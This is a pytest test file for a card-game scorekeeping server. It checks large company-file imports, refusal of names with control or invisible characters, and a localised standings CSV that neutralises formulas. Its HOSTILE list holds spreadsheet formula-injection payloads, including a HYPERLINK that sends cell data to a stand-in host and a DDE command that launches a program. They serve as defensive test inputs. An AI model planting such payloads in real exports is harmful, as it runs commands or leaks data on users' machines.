"""Issue 22, rows 4, 6, 7 and 10 for companies, against the real `scorekeeper serve`:

- the server opens the company file it exported itself (90 evenings of 100 deals, 2.3 MB:
  a 413 before), in time that grows in step with the file (bench/bench_company_import.py);
- ids given as a list or an object, names with control, format or invisible characters, and
  names that are the same after case folding and NFKC are refused with one line per problem;
- the standings CSV neutralises formula cells and is written in the reader's language.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import time
from collections.abc import Iterator
from decimal import Decimal

import pytest

from scorekeeper.company import file as company_file
from scorekeeper.store import Store

from ..harness import ROOT
from ..served import Phone, Server

sys.path.insert(0, str(ROOT / "bench"))
from bench_company_import import company_data  # noqa: E402

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, str, str]]:
    """The server with a company of 90 finished evenings of 100 deals, and one whose
    players are named like formulas: (server, big company's view token, hostile's)."""
    where = tmp_path_factory.mktemp("company")
    db = where / "games.sqlite"
    big = company_data(90, 100)
    hostile = company_data(3, 10)
    hostile["players"] = [
        {"id": i + 1, "name": name} for i, name in enumerate([*HOSTILE, "Anna", "Boris"])
    ]
    with Store(db) as store:
        view = company_file.create(store, company_file.load_file(big)).view_token
        formulas = company_file.create(store, company_file.load_file(hostile)).view_token
    running = Server(db, where / "server.log")
    try:
        yield running.start(), view, formulas
    finally:
        running.stop()


def upload(phone: Phone, data: bytes) -> tuple[int, str]:
    form = phone.get("/company/import").form("import-company")
    reply = phone.upload("/company/import", form.data(), "file", data)
    return reply.status, reply.html if reply.status != 302 else reply.location


def test_the_server_opens_the_company_file_it_exported(served: tuple[Server, str, str]) -> None:
    server, view, _ = served
    phone = Phone(server.port)
    exported = phone.get(f"/cv/{view}/company.json")
    assert exported.status == 200
    assert len(exported.body) > 2 * 1024 * 1024, "the file is larger than any other request"
    start = time.perf_counter()
    status, where = upload(phone, exported.body)
    took = time.perf_counter() - start
    print(f"\nimported {len(exported.body) / 1e6:.2f} MB, 90 evenings x 100 deals: {took:.2f} s")
    assert status == 302, where[:2000]
    copy = where.rsplit("/", 1)[-1]
    again = json.loads(phone.get(f"/c/{copy}/company.json").body)
    assert again["games"] == json.loads(exported.body)["games"]


def small_company() -> dict:
    data = company_data(1, 5)
    data["players"] = data["players"][:6]
    return data


@pytest.mark.parametrize(
    "change, expected",
    [
        (lambda d: d["players"].__setitem__(0, {"id": [1], "name": "Anna"}), "a player must have"),
        (
            lambda d: d["players"].__setitem__(0, {"id": {"a": 1}, "name": "Anna"}),
            "a player must have",
        ),
        (
            lambda d: d["games"][0].__setitem__(
                "players", {k: [v] for k, v in d["games"][0]["players"].items()}
            ),
            "every seat must name",
        ),
        (lambda d: d["payments"][0].__setitem__("payer", {"x": 1}), "payment 1 cannot be read"),
        (lambda d: d["payments"][0].__setitem__("game", [0]), "payment 1 cannot be read"),
        (lambda d: d["players"][0].__setitem__("name", "An\u00adna"), "U+00AD soft hyphen"),
        (lambda d: d["players"][0].__setitem__("name", "Anna\x00"), "U+0000 NUL"),
        (lambda d: d["players"][0].__setitem__("name", "\x1b[31mAnna"), "U+001B escape"),
        (
            lambda d: d["players"][0].__setitem__("name", "\u202eannA"),
            "U+202E right-to-left override",
        ),
        (lambda d: d["players"][0].__setitem__("name", "An\u200bna"), "U+200B zero-width space"),
        (lambda d: d["players"][0].__setitem__("name", "\u3164"), "U+3164 hangul filler"),
        (
            lambda d: d["players"][1].__setitem__("name", d["players"][0]["name"].upper()),
            "appears twice",
        ),
        (
            lambda d: d["players"][1].__setitem__("name", "\uff21\uff4e\uff4e\uff41"),
            "appears twice",
        ),
        (lambda d: d.__setitem__("name", "Fri\ud800days"), "U+D800 lone surrogate"),
    ],
)
def test_a_hostile_company_file_is_refused_line_by_line(
    served: tuple[Server, str, str], change, expected: str
) -> None:
    server, _, _ = served
    data = small_company()
    change(data)
    text = json.dumps(data, ensure_ascii=True)  # a lone surrogate as JSON writes it
    status, html = upload(Phone(server.port), text.encode())
    assert status == 400, (status, html[:300])
    assert expected in html, html[-3000:]
    assert "Traceback" not in html


def rows_of(body: bytes, language: str) -> list[list[str]]:
    if language == "ru":
        assert body.startswith(b"\xef\xbb\xbf"), "a Russian spreadsheet reads UTF-8 after a BOM"
        text = body[3:].decode()
        return list(csv.reader(io.StringIO(text), delimiter=";"))
    assert not body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode()), delimiter=","))


@pytest.mark.parametrize("language", ["en", "ru"])
def test_the_standings_csv_runs_no_formula_and_speaks_the_language(
    served: tuple[Server, str, str], language: str
) -> None:
    server, _, formulas = served
    phone = Phone(server.port)
    phone.cookies["lang"] = language
    reply = phone.get(f"/cv/{formulas}/standings.csv?period=all")
    assert reply.status == 200
    rows = rows_of(reply.body, language)
    header, body = rows[0], rows[1:]
    assert (
        header[:5]
        == {
            "en": ["Player", "Evenings", "Wins", "Net whists", "Money"],
            "ru": ["Игрок", "Вечера", "Победы", "Итог в вистах", "Деньги"],
            "uk": ["Гравець", "Вечори", "Перемоги", "Підсумок у вістах", "Гроші"],
        }[language]
    ), "the header in the reader's words (issue 33)"
    names = [row[0] for row in body]
    played = [n for n in names if n.lstrip("'") in HOSTILE]
    assert played, names
    for name in played:
        assert name.startswith("'"), f"{name!r} would run as a formula"
    mark = "," if language == "ru" else "."
    for row in body:
        for number in row[3:]:
            assert "/" not in number, f"{number!r} is a fraction no spreadsheet reads"
            assert ("." if language == "ru" else ",") not in number, number
            Decimal(number.replace(mark, "."))  # a number in the reader's notation
    total = sum(Decimal(row[4].replace(mark, ".")) for row in body)
    assert total == 0, "the money of a company sums to zero"


def test_the_csv_helper_neutralises_every_formula_start_and_writes_numbers_per_language() -> None:
    from fractions import Fraction

    from scorekeeper.csvout import csv_bytes

    rows = [
        ["name", "whists", "money"],
        ["=1+1", Fraction(-407, 3), Decimal("64.72")],
        ["\tx", Fraction(5), Decimal("-0.50")],
        ["\rx", 7, None],
        ["@a", Fraction(1, 8), Decimal("0")],
        ["Anna", Fraction(-1, 3), Decimal("1000000.00")],
    ]
    en = csv_bytes(rows, "en").decode()
    assert list(csv.reader(io.StringIO(en)))[1:] == [
        ["'=1+1", "-135.67", "64.72"],
        ["'\tx", "5", "-0.50"],
        ["'\rx", "7", ""],
        ["'@a", "0.13", "0"],
        ["Anna", "-0.33", "1000000.00"],
    ]
    for language in ("ru", "uk", "uk-UA"):
        data = csv_bytes(rows, language)
        assert data.startswith("\ufeff".encode())
        parsed = list(csv.reader(io.StringIO(data.decode()[1:]), delimiter=";"))
        assert parsed[1] == ["'=1+1", "-135,67", "64,72"]
        assert parsed[5] == ["Anna", "-0,33", "1000000,00"]
